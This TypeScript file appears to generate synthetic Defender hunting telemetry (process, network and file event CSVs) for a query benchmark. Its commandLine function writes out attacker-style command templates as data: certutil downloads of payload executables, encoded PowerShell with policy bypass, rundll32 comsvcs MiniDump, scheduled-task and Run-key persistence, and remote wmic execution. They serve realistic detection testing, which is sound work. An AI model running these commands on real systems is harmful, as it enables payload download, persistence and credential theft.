/**
 * Telemetry for the hunting benchmark: DeviceProcessEvents, DeviceNetworkEvents and DeviceFileEvents as
 * Advanced Hunting CSV exports (one file per table per day), written straight as text so that 10M rows take
 * seconds, not minutes. Unlike the demo organisation (bench/engine/data.ts: a few distinct command lines),
 * the values have the cardinality real telemetry has, because that is what joins, parse/extract and
 * make_set pay for: command lines with random arguments (encoded PowerShell, certutil downloads, temp
 * paths), tens of thousands of remote addresses, JSON AdditionalFields with tag arrays, and network and
 * file events that point at the process (DeviceId + ProcessId) that made them, a few minutes after it
 * started, so process↔network joins find partners. Deterministic: the same size gives the same bytes.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const HUNT_TABLES = ['DeviceProcessEvents', 'DeviceNetworkEvents', 'DeviceFileEvents'] as const;

export const COLUMNS: Record<(typeof HUNT_TABLES)[number], string[]> = {
  DeviceProcessEvents: ['Timestamp', 'DeviceId', 'DeviceName', 'ActionType', 'FileName', 'FolderPath', 'ProcessCommandLine', 'ProcessId', 'AccountName', 'InitiatingProcessFileName', 'InitiatingProcessId', 'SHA256', 'FileSize', 'ReportId', 'AdditionalFields'],
  DeviceNetworkEvents: ['Timestamp', 'DeviceId', 'DeviceName', 'ActionType', 'RemoteIP', 'RemotePort', 'RemoteUrl', 'LocalIP', 'Protocol', 'InitiatingProcessFileName', 'InitiatingProcessId', 'InitiatingProcessCommandLine', 'ReportId', 'AdditionalFields'],
  DeviceFileEvents: ['Timestamp', 'DeviceId', 'DeviceName', 'ActionType', 'FileName', 'FolderPath', 'SHA256', 'FileSize', 'InitiatingProcessFileName', 'InitiatingProcessId', 'ReportId'],
};

/** `now()` of every query: 2026-11-20T00:00:00Z, the end of the last day, in 100 ns ticks. */
export const HUNT_NOW = 17_951_328_000_000_000n;
const DAY = 864_000_000_000n;
/** Rows per device and day: 8 processes, 14 connections, 4 file events. */
const PROCS = 8, CONNS = 14, FILES = 4;
const PER_DEVICE_DAY = PROCS + CONNS + FILES;

export interface HuntDataSet {
  dir: string;
  rows: number;
  devices: number;
  days: number;
  perTable: Record<string, number>;
  csvBytes: number;
}

export function shapeOf(rows: number): { devices: number; days: number } {
  const days = rows >= 1_000_000 ? 30 : 7;
  return { days, devices: Math.max(10, Math.round(rows / PER_DEVICE_DAY / days)) };
}

function rng(seed: number): () => number {
  let s = seed >>> 0 || 1;
  return () => ((s = (Math.imul(s ^ (s >>> 15), 2246822519) + 0x9e3779b9) >>> 0) / 2 ** 32);
}

/** Processes the estate runs; the LOLBins carry the command lines hunts look at. */
export const PROCESSES = [
  'chrome.exe', 'msedge.exe', 'svchost.exe', 'OUTLOOK.EXE', 'Teams.exe', 'OneDrive.exe', 'explorer.exe', 'conhost.exe',
  'powershell.exe', 'cmd.exe', 'rundll32.exe', 'certutil.exe', 'schtasks.exe', 'net.exe', 'msiexec.exe', 'reg.exe', 'wmic.exe', 'mshta.exe',
];
const PARENTS = ['explorer.exe', 'services.exe', 'svchost.exe', 'cmd.exe', 'powershell.exe', 'WINWORD.EXE', 'OUTLOOK.EXE', 'wmiprvse.exe'];
const USERS = ['ana.silva', 'ben.meyer', 'chloe.dubois', 'dev.patel', 'emma.okafor', 'farid.novak', 'grace.kim', 'hiro.rossi', 'ines.larsen', 'jon.haddad', 'SYSTEM', 'svc-backup'];
const DOMAINS_BASE = ['microsoft.com', 'office365.com', 'google.com', 'googleapis.com', 'zoom.us', 'github.com', 'amazonaws.com', 'akamaiedge.net', 'cloudflare.net', 'slack.com', 'dropbox.com', 'salesforce.com'];
const TAGS = ['beacon', 'tls', 'http', 'dns', 'proxy', 'cdn', 'update', 'telemetry', 'upload', 'download', 'rare', 'newdomain'];
const UAS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Microsoft-CryptoAPI/10.0', 'Windows-Update-Agent/10.0', 'curl/8.4.0', 'python-requests/2.31', 'PowerShell/7.4'];
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

/** The indicator list the IOC shapes join to: every 97th address of the remote pool, and some never seen. */
export function iocAddresses(): string[] {
  const out: string[] = [];
  for (let i = 0; i < 200; i++) out.push(i % 4 === 3 ? `198.51.100.${i}` : remoteIp(i * 97));
  return out;
}
export function remoteIp(i: number): string {
  return `${20 + (i % 180)}.${(i * 7) % 251}.${(i * 13) % 241}.${1 + ((i * 31) % 250)}`;
}
const REMOTE_POOL = 40_000;
const domainOf = (i: number) => (i % 5 === 0 ? DOMAINS_BASE[i % DOMAINS_BASE.length]! : `cdn${i % 3000}.${DOMAINS_BASE[i % DOMAINS_BASE.length]}`);

function csvCell(v: string): string {
  return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

function isoTicks(t: bigint): string {
  const ms = Number(t / 10_000n);
  const frac = String(t % 10_000_000n).padStart(7, '0');
  return `${new Date(ms).toISOString().slice(0, 19)}.${frac}Z`;
}

function commandLine(r: () => number, file: string, user: string): string {
  const n = () => Math.floor(r() * 1e6);
  const b64 = (len: number) => Array.from({ length: len }, () => B64[Math.floor(r() * 64)]).join('');
  switch (file) {
    case 'powershell.exe':
      return r() < 0.5
        ? `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${b64(24 + Math.floor(r() * 40))}`
        : `powershell.exe -File C:\\Users\\${user}\\AppData\\Local\\Temp\\script${n()}.ps1 -WindowStyle Hidden`;
    case 'cmd.exe': return `cmd.exe /c "whoami /all > C:\\Users\\${user}\\AppData\\Local\\Temp\\${n()}.txt"`;
    case 'rundll32.exe': return `rundll32.exe C:\\Windows\\System32\\${['shell32', 'comsvcs', 'url', 'advpack'][n() % 4]}.dll,${['Control_RunDLL', 'MiniDump', 'OpenURL', 'LaunchINFSection'][n() % 4]} ${n()}`;
    case 'certutil.exe': return `certutil.exe -urlcache -split -f http://${remoteIp(n() % REMOTE_POOL)}/payload${n() % 500}.exe C:\\ProgramData\\${n()}.exe`;
    case 'schtasks.exe': return `schtasks.exe /create /tn "Updater${n() % 1000}" /tr "C:\\ProgramData\\upd${n()}.exe" /sc minute /mo ${1 + (n() % 30)}`;
    case 'net.exe': return `net.exe ${['user', 'group', 'localgroup administrators', 'view'][n() % 4]} ${USERS[n() % USERS.length]} /domain`;
    case 'msiexec.exe': return `msiexec.exe /i C:\\Users\\${user}\\Downloads\\setup${n() % 5000}.msi /qn`;
    case 'reg.exe': return `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd${n() % 1000} /d C:\\ProgramData\\${n()}.exe /f`;
    case 'wmic.exe': return `wmic.exe /node:10.${n() % 4}.${n() % 255}.${n() % 255} process call create "cmd.exe /c ${n()}"`;
    case 'mshta.exe': return `mshta.exe https://${domainOf(n() % 5000)}/page${n() % 100}.hta`;
    case 'chrome.exe': case 'msedge.exe': return `"C:\\Program Files\\${file}" --type=renderer --field-trial-handle=${n()} --lang=en-US /prefetch:${1 + (n() % 8)}`;
    case 'svchost.exe': return `svchost.exe -k netsvcs -p -s ${['Schedule', 'BITS', 'wuauserv', 'Winmgmt', 'gpsvc'][n() % 5]}`;
    default: return `"${file}"`;
  }
}

/** Generates the CSV files under `root` (reused when a previous run made the same size). */
export function ensureHuntData(root: string, rows: number): HuntDataSet {
  const { devices, days } = shapeOf(rows);
  const dir = join(root, `hunt-rows-${rows}`);
  const manifest = join(dir, 'dataset.json');
  // the data set where it lies now (a copied data directory still names the one it was made in: reading
  // that one's stores and writing its out-*.json would share another run's directory)
  if (existsSync(manifest)) return { ...(JSON.parse(readFileSync(manifest, 'utf8')) as HuntDataSet), dir };
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(join(dir, 'csv'), { recursive: true });
  const r = rng(42);
  const ids = Array.from({ length: devices }, (_, i) => ({
    id: Array.from({ length: 40 }, () => '0123456789abcdef'[Math.floor(r() * 16)]).join(''),
    name: `${i % 50 === 0 ? 'srv' : 'wks'}-${String(i).padStart(5, '0')}.contoso.local`,
    ip: `10.${1 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`,
    user: USERS[i % USERS.length]!,
  }));
  const perTable: Record<string, number> = { DeviceProcessEvents: 0, DeviceNetworkEvents: 0, DeviceFileEvents: 0 };
  let csvBytes = 0;
  let report = 1;
  for (let day = 0; day < days; day++) {
    const start = HUNT_NOW - BigInt(days - day) * DAY;
    const out: Record<string, string[]> = { DeviceProcessEvents: [], DeviceNetworkEvents: [], DeviceFileEvents: [] };
    for (const d of ids) {
      for (let p = 0; p < PROCS; p++) {
        const t = start + BigInt(Math.floor(r() * 0.95 * 86_400_000)) * 10_000n + BigInt(Math.floor(r() * 10_000));
        // LOLBins a quarter of the time, so the hunts' filters keep a realistic few percent of rows each
        const file = r() < 0.25 ? PROCESSES[8 + Math.floor(r() * 10)]! : PROCESSES[Math.floor(r() * 8)]!;
        const pid = 1000 + Math.floor(r() * 60_000);
        const cmd = commandLine(r, file, d.user);
        const extra = r() < 0.1 ? JSON.stringify({ ProcessStartKey: Math.floor(r() * 1e9), Tags: [TAGS[Math.floor(r() * 6)]] }) : '';
        out['DeviceProcessEvents']!.push([isoTicks(t), d.id, d.name, 'ProcessCreated', file, `C:\\Windows\\System32\\${file}`, cmd, pid, d.user,
          PARENTS[Math.floor(r() * PARENTS.length)]!, 1000 + Math.floor(r() * 60_000), sha(r), Math.floor(r() * 5e7), report++, extra].map((v) => csvCell(String(v))).join(','));
        // its connections and files, minutes after it started
        const conns = p < 6 ? Math.floor(CONNS / 6) + (p < CONNS % 6 ? 1 : 0) : 0;
        for (let c = 0; c < conns; c++) {
          const ct = t + BigInt(Math.floor(r() * 600_000)) * 10_000n + BigInt(Math.floor(r() * 10_000));
          const ri = Math.floor(r() ** 2 * REMOTE_POOL);
          const failed = r() < 0.1;
          const http = r() < 0.3;
          const af = http ? JSON.stringify({ direction: 'Out', user_agent: UAS[Math.floor(r() * UAS.length)], uri: `/api/v${Math.floor(r() * 3)}/${Math.floor(r() * 100)}`, Tags: Array.from({ length: 1 + Math.floor(r() * 3) }, () => TAGS[Math.floor(r() * TAGS.length)]) }) : '';
          out['DeviceNetworkEvents']!.push([isoTicks(ct), d.id, d.name, failed ? 'ConnectionFailed' : http ? 'HttpConnectionInspected' : 'ConnectionSuccess', remoteIp(ri), [443, 80, 445, 3389, 8080, 53][Math.floor(r() ** 3 * 6)]!,
            domainOf(ri % 5000), d.ip, 'Tcp', file, pid, cmd, report++, af].map((v) => csvCell(String(v))).join(','));
        }
        const files = p < FILES ? 1 : 0;
        for (let f = 0; f < files; f++) {
          const ft = t + BigInt(Math.floor(r() * 300_000)) * 10_000n + BigInt(Math.floor(r() * 10_000));
          const name = `${['report', 'invoice', 'setup', 'update', 'data'][Math.floor(r() * 5)]}${Math.floor(r() * 2000)}.${['docx', 'xlsx', 'exe', 'dll', 'zip', 'ps1'][Math.floor(r() * 6)]}`;
          out['DeviceFileEvents']!.push([isoTicks(ft), d.id, d.name, ['FileCreated', 'FileModified', 'FileRenamed', 'FileDeleted'][Math.floor(r() * 4)]!, name, `C:\\Users\\${d.user}\\Downloads\\${name}`,
            sha(r), Math.floor(r() * 5e8), file, pid, report++].map((v) => csvCell(String(v))).join(','));
        }
      }
    }
    for (const table of HUNT_TABLES) {
      const text = `${COLUMNS[table].join(',')}\n${out[table]!.join('\n')}\n`;
      writeFileSync(join(dir, 'csv', `${table}_${String(day).padStart(3, '0')}.csv`), text);
      perTable[table] = perTable[table]! + out[table]!.length;
      csvBytes += text.length;
    }
  }
  const ds: HuntDataSet = { dir, rows: Object.values(perTable).reduce((a, b) => a + b, 0), devices, days, perTable, csvBytes };
  writeFileSync(manifest, JSON.stringify(ds, null, 1));
  return ds;
}

function sha(r: () => number): string {
  // a few thousand distinct hashes, as an estate's binaries have
  const i = Math.floor(r() * 4000);
  return (i * 2654435761 >>> 0).toString(16).padStart(8, '0').repeat(8);
}

export function huntCsvFiles(ds: HuntDataSet, table?: string): string[] {
  return readdirSync(join(ds.dir, 'csv')).filter((f) => !table || f.startsWith(`${table}_`)).sort().map((f) => join(ds.dir, 'csv', f));
}
